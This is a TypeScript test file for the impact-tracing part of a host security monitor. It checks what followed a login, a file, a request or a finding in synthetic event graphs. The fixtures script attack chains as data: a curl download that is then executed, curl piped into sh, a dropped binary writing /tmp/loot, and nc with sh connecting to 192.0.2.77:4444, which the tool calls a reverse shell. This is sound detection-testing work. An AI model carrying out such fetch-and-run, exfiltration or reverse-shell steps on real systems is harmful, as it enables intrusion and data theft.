import { describe, expect, test } from "vitest";
import { impactOf } from "../../../src/core/origin/impact.ts";
import { originOf } from "../../../src/core/origin/origin.ts";
import type { ImpactTree, Subject } from "../../../src/core/query/model.ts";
import { KIND } from "../../../src/core/wire/layout.gen.ts";
import { graphFromText, type Told } from "../fixture.ts";

function subjectOf(told: Told, what: string): Subject {
  if (/:\d+$/.test(what)) return { kind: "connection", id: told.connection(what) };
  if (what.startsWith("/")) return { kind: "file", id: told.file(what) };
  return { kind: "process", id: told.process(what) };
}

function of(told: Told, what: string, whole = false): ImpactTree {
  return impactOf(told.monitor, subjectOf(told, what), { whole });
}

/** One step a line, indented by depth: "  link: title". */
function draw(impact: ImpactTree): readonly string[] {
  return impact.steps.map((step) => `${"  ".repeat(step.depth)}${step.link}: ${step.title}`);
}

const ATTACK = `sshd listens :22; sshd:22 <- 203.0.113.9:51022; sshd >> sshd#session > bash; bash > curl(-s http://x/i.sh);
  curl -> 198.51.100.7:80; curl writes /tmp/.x; bash > sh(/tmp/.x); sh reads /tmp/.x; sh writes /dev/shm/k; sh > /dev/shm/k;
  k -> 192.0.2.77:4444; k writes /tmp/loot; cron > sh#job(-c job); sh#job writes /var/log/job`;

describe("the impact", () => {
  test("of a login is what was typed, what that wrote, and what ran it", () => {
    const impact = of(graphFromText(ATTACK), "203.0.113.9:51022");
    expect(draw(impact)).toEqual([
      "boundary: tcp 203.0.113.9:51022 -> 10.0.0.4:22",
      "  accepted: 100 sshd",
      "    spawned: 101 sshd",
      "      spawned: 102 bash",
      "        spawned: 103 curl -s http://x/i.sh",
      expect.stringMatching(/^ {10}connected: tcp .* -> 198.51.100.7:80$/),
      "          executed: 104 sh /tmp/.x",
      "            executed: 105 /dev/shm/k",
      expect.stringMatching(/^ {14}connected: tcp .* -> 192.0.2.77:4444$/),
      "              wrote: /tmp/loot",
    ]);
    expect(impact.summary).toBe(
      "Led to 6 processes, 2 connections out (198.51.100.7:80, 192.0.2.77:4444), 2 written files that were run (/tmp/.x, /dev/shm/k) and 1 other written file (/tmp/loot)",
    );
    expect([impact.observedLinks, impact.gaps]).toEqual([impact.links, []]);
  });

  test("is later than its cause at every step, and the origin of every step leads back", () => {
    const told = graphFromText(ATTACK);
    const impact = of(told, "bash");
    for (const step of impact.steps) {
      const cause = impact.steps[step.cause];
      if (cause !== undefined) expect(cause.atNs).toBeLessThanOrEqual(step.atNs);
      const back = originOf(told.monitor, step.subject).steps.map(({ subject }) => subject);
      expect(back, step.title).toContainEqual(subjectOf(told, "bash"));
    }
  });

  test("of a file is who ran it and who copied it", () => {
    const told = graphFromText(
      "bash > vi; vi writes /tmp/a; bash > cp; cp reads /tmp/a; cp writes /tmp/b; bash > /tmp/b; b -> 9.9.9.9:1",
    );
    expect(draw(of(told, "/tmp/a"))).toEqual([
      "boundary: /tmp/a",
      "  read: 102 cp",
      "    executed: 103 /tmp/b",
      expect.stringMatching(/connected: tcp .* -> 9.9.9.9:1$/),
    ]);
  });

  test("of a request is what the server did for it, not what it did for others", () => {
    const told = graphFromText(
      "nginx listens :80; nginx:80 <- 8.8.4.4:999; nginx > sh(-c other); +5s; nginx:80 <- 203.0.113.9:1234; nginx > sh#2(-c curl) > curl; curl writes /tmp/x",
    );
    const lines = draw(of(told, "203.0.113.9:1234")).join("\n");
    expect(lines).toContain("sh -c curl");
    expect(lines).toContain("wrote: /tmp/x");
    expect(lines).not.toContain("other");
  });

  test("of a pipe writer is the shell that obeys it, and what a filter passes on", () => {
    const told = graphFromText(
      "bash > curl | sh; sh -> 192.0.2.77:4444; bash > wget | tar; tar writes /opt/t; tar > gzip; bash > /opt/t",
    );
    expect(draw(of(told, "curl"))).toEqual([
      "boundary: 101 curl",
      "  piped: 102 sh",
      expect.stringMatching(/^ {4}connected: tcp .* -> 192.0.2.77:4444$/),
    ]);
    const lines = draw(of(told, "wget")).join("\n");
    expect(lines).toContain("executed: 106 /opt/t");
    expect(lines).not.toContain("gzip");
  });

  test("of a client on this host goes through the server it asked", () => {
    const told = graphFromText(
      "bash > client; client ~> server; server > worker; +60s; server > later; client ~> idle",
    );
    const lines = draw(of(told, "client"));
    expect(lines).toEqual([
      "boundary: 101 client",
      "  connected: unix /run/server.sock",
      "    accepted: 102 server",
      "      spawned: 103 worker",
    ]);
  });

  test("of a file that a server read goes on with the client it served", () => {
    const told = graphFromText(
      "web listens :8765; bash > curl; curl -> web:8765; web reads /srv/install.sh; curl writes /tmp/x; bash > sh(/tmp/x); sh reads /tmp/x; sh > id",
    );
    const impact = of(told, "/srv/install.sh");
    expect(draw(impact)).toEqual([
      "boundary: /srv/install.sh",
      "  read: 100 web",
      "    connected: 102 curl",
      "      executed: 103 sh /tmp/x",
      "        spawned: 104 id",
    ]);
    expect(impact.steps[2]).toMatchObject({ certainty: "inferred" });
    expect(impact.gaps).not.toEqual([]);
  });

  test("of a file that a server read names the client elsewhere as a gap", () => {
    const told = graphFromText("web listens :80; web:80 <- 203.0.113.9:1234; web reads /srv/install.sh");
    expect(of(told, "/srv/install.sh").gaps).toContainEqual(expect.stringContaining("203.0.113.9:1234"));
  });

  test("of a file tells who read it apart from who only opened it", () => {
    const told = graphFromText("bash > df; df reads /srv/a; bash > cat; cat reads /srv/a");
    const use = { ...told.story.head("cat"), path: "/srv/a", dev: 1, ino: told.story.inode("/srv/a"), mode: 0o100644 };
    told.story.emit((w) => w.use(KIND.READ, { ...use, bytes: 10 }));
    told.go("+1s");
    expect(of(told, "/srv/a").steps.map(({ title, explanation }) => `${title}: ${explanation}`)).toEqual([
      "/srv/a: all below came of it",
      "101 df: opened it to read",
      "102 cat: read it",
    ]);
  });

  test("of something with many effects tells the most telling and how many are left", () => {
    const told = graphFromText("bash listens :1");
    for (let i = 0; i < 60; i++) told.go(`bash > ls#${i}; ls#${i} exits`);
    told.go("bash > curl; curl writes /tmp/.x; bash > /tmp/.x; .x -> 192.0.2.77:4444");
    const short = of(told, "bash");
    expect(draw(short).join("\n")).toContain("192.0.2.77:4444");
    expect(short.steps.length).toBeLessThan(45);
    expect(short.steps[0]?.left).toBeGreaterThan(20);
    expect(short.summary).toMatch(/^Led to at least /);
    const whole = of(told, "bash", true);
    expect(whole.steps.filter((step) => step.title.endsWith("ls"))).toHaveLength(60);
    expect(whole.steps[0]?.left).toBeUndefined();
  });

  test("of a server names whom it served, alike clients folded with how many and how often", () => {
    const told = graphFromText("web listens :8765; web > worker");
    for (let i = 0; i < 14; i++) told.go(`web:8765 <- 203.0.113.9:${51000 + i}`);
    told.go("web:8765 <- 198.51.100.7:4000; web > log; bash > wget; wget -> web:8765; wget exits 0");
    for (let i = 0; i < 3; i++) told.go(`bash > curl#${i}(-s http://localhost:8765/); curl#${i} -> web:8765`);
    const impact = of(told, "web");
    expect(draw(impact)).toEqual([
      "boundary: 100 web",
      "  spawned: 101 worker",
      "  accepted: 203.0.113.9",
      "  accepted: 198.51.100.7",
      "  spawned: 102 log",
      expect.stringMatching(/^ {2}accepted: \d+ wget$/u),
      "  accepted: 3 processes curl",
    ]);
    expect(impact.steps[2]?.explanation).toMatch(/^was served on .*:8765: 14 connections, 14 open/u);
    expect(impact.summary).toBe("Led to 2 processes; served 4 clients (203.0.113.9, curl, 198.51.100.7, …)");
    expect(of(told, "worker").summary).toBe("Nothing was seen to come of it.");
  });

  test("of a listening socket is what was done for those who came, however many came for nothing: they are folded", () => {
    const told = graphFromText("web listens :80; web listens :81");
    const visit = (from: number, to: number): void => {
      for (let i = from; i < to; i++) told.go(`web:80 <- 203.0.113.${i % 2}:${i}; web closes 203.0.113.${i % 2}:${i}`);
    };
    visit(1, 40);
    told.go("web:80 <- 203.0.113.7:999; web writes /srv/upload; web closes 203.0.113.7:999; web:81 <- 203.0.113.8:1");
    visit(40, 80);
    const impact = of(told, ":80");
    expect(draw(impact)).toEqual([
      "boundary: tcp :80",
      "  accepted: 203.0.113.1",
      "  accepted: 203.0.113.0",
      "  accepted: tcp 203.0.113.7:999 -> 10.0.0.4:80",
      "    accepted: 100 web",
      "      wrote: /srv/upload",
      "  accepted: 203.0.113.7",
    ]);
    expect(impact.steps[1]?.explanation).toBe("was served on 10.0.0.4:80: 40 connections, 0 open");
    expect(impact.steps[0]?.left).toBeUndefined();
    expect(impact.summary).toBe(
      "Led to 1 process and 1 other written file (/srv/upload); served 3 clients (203.0.113.1, 203.0.113.0, 203.0.113.7)",
    );
  });

  test("of what was there when capture began is told as what came of it since", () => {
    const told = graphFromText("bash > curl; curl writes /tmp/x");
    const found = of(told, "bash");
    expect(found.steps[0]).toMatchObject({
      explanation: "all below came of it since capture began",
      certainty: "before start",
    });
    expect(found.gaps).toEqual(["1 found when capture began"]);
    const seen = of(told, "curl");
    expect(seen.steps[0]).toMatchObject({ explanation: "all below came of it", certainty: "observed" });
    expect(seen.gaps).toEqual([]);
  });

  test("of a process that talks to itself over a socket pair is no service", () => {
    const told = graphFromText("bash > curl; curl ~> curl; curl > helper");
    expect(of(told, "curl").summary).toBe("Led to 1 process");
  });

  test("of a finding is what followed it", () => {
    const told = graphFromText("bash > nc; nc > before; nc -> 192.0.2.77:4444; nc > sh @ 192.0.2.77:4444; sh > id");
    const [finding] = told.monitor.detector.findings;
    if (finding === undefined) throw new Error("nothing was found");
    const impact = impactOf(told.monitor, { kind: "finding", id: finding.id });
    expect(impact.title).toBe("Reverse shell: 103 sh");
    expect(draw(impact).join("\n")).toContain("spawned: 104 id");
    expect(draw(impact).join("\n")).not.toContain("before");
  });

  test("of nothing, and of what is forgotten, says so", () => {
    expect(of(graphFromText("bash > curl; curl -> 127.0.0.2:9001"), "curl").summary).toBe(
      "Led to 1 connection on this host",
    );
    expect(of(graphFromText("bash > ls"), "ls").summary).toBe("Nothing was seen to come of it.");
    expect(impactOf(graphFromText("bash > ls").monitor, { kind: "process", id: 12345 })).toMatchObject({
      summary: "This is no longer remembered.",
      gaps: ["earlier history forgotten"],
    });
  });
});
